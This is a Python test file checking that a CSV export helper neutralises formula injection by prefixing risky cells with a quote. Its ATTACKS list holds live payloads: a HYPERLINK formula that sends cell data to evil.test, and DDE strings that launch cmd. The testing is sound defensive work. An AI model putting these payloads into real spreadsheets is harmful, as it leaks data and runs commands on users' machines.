"""CSV export cells: text a spreadsheet would run as a formula is written as plain text."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from server.features.shared.csv_export import csv_text, safe_cell

ATTACKS = [
    '=HYPERLINK("http://evil.test?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_cell_that_would_run_as_a_formula_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_ordinary_text_numbers_and_dates_are_written_as_they_are() -> None:
    assert safe_cell("Harbor View Bistro") == "Harbor View Bistro"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(-5) == "-5"
    assert safe_cell(Decimal("-12.50")) == "-12.50"
    assert safe_cell(date(2026, 1, 31)) == "2026-01-31"
    assert safe_cell(None) == ""
    assert safe_cell(True) == "true"


def test_a_file_reads_back_with_every_attack_neutralised() -> None:
    text = csv_text(["name", "amount"], [(attack, -1) for attack in ATTACKS])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "amount"]
    assert [row[0] for row in rows[1:]] == ["'" + attack for attack in ATTACKS]
    assert all(row[1] == "-1" for row in rows[1:])
    assert not any(row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
